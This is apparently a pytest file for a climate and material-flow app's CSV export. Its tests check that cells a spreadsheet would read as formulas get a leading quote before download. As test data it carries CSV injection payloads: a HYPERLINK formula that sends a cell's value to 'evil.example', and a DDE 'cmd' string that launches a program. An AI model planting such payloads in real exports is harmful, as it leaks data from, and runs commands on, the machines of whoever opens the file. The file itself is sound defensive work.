"""CSV downloads open in a spreadsheet without running anything: a cell that a spreadsheet
would take for a formula gets a leading quote (OWASP), and numbers stay numbers."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from circularity.services.csv_export import FORMULA_STARTS, csv_text, made_safe, safe_cell
from tests.helpers import company_id, register, ship

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        (FORMULA, "'" + FORMULA),
        ("+5", "'+5"),
        ("-1+2", "'-1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        # numbers stay numbers, negative ones included
        ("-12.5", "-12.5"),
        ("-1.5e3", "-1.5e3"),
        ("-0.25", "-0.25"),
        ("-.5", "-.5"),
        ("1250.000", "1250.000"),
        (-3, "-3"),
        (-2.5, "-2.5"),
        # ordinary text is untouched
        ("Steelworks", "Steelworks"),
        ("a=b", "a=b"),
        ("17 04 05", "17 04 05"),
        ("钢铁厂", "钢铁厂"),
        ("", ""),
        (None, ""),
    ],
)
def test_cells_that_would_run_get_a_quote(cell, written):
    assert safe_cell(cell) == written


@given(st.text())
def test_a_cell_is_kept_or_quoted_never_otherwise_changed(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell == text and text.startswith(FORMULA_STARTS):
        float(text)  # only a number may begin so


def test_csv_text_reads_back_as_the_safe_cells():
    rows = [["company", "gap t CO2e"], [FORMULA, "-12.5"], ["Cement, Ltd", "3.0"]]
    assert list(csv.reader(io.StringIO(csv_text(rows)))) == [
        ["company", "gap t CO2e"],
        ["'" + FORMULA, "-12.5"],
        ["Cement, Ltd", "3.0"],
    ]


def test_csv_from_elsewhere_is_made_safe_cell_by_cell():
    text = 'source,target,value_kg\n"=1+2",@x,-5.0\n'
    assert made_safe(text) == "source,target,value_kg\n'=1+2,'@x,-5.0\n"


@pytest.fixture
def hostile_company(db_session):
    """Steelworks renamed to a formula by someone who may name companies."""
    from circularity.models import Company

    company = db_session.get(Company, company_id(db_session, "Steelworks"))
    company.name = FORMULA
    db_session.add(company)
    db_session.commit()
    code = register(db_session)
    ship(db_session, code)
    return code


def _cells(response) -> list[str]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = csv.reader(io.StringIO(response.get_data(as_text=True)))
    return [cell for row in rows for cell in row]


def _no_cell_runs(cells: list[str]) -> None:
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)


def test_dashboard_downloads_quote_a_formula_name(as_person, hostile_company):
    mia = as_person("mia")
    for figure in ("indicators", "trend", "streams", "companies", "balance", "flows"):
        _no_cell_runs(_cells(mia.get(f"/dashboard/{figure}.csv")))
    assert "'" + FORMULA in _cells(mia.get("/dashboard/companies.csv"))


def test_the_sankey_download_quotes_a_formula_name(as_person, hostile_company):
    cells = _cells(as_person("mia").get("/analysis/sankey.csv"))
    _no_cell_runs(cells)
    assert "'" + FORMULA in cells
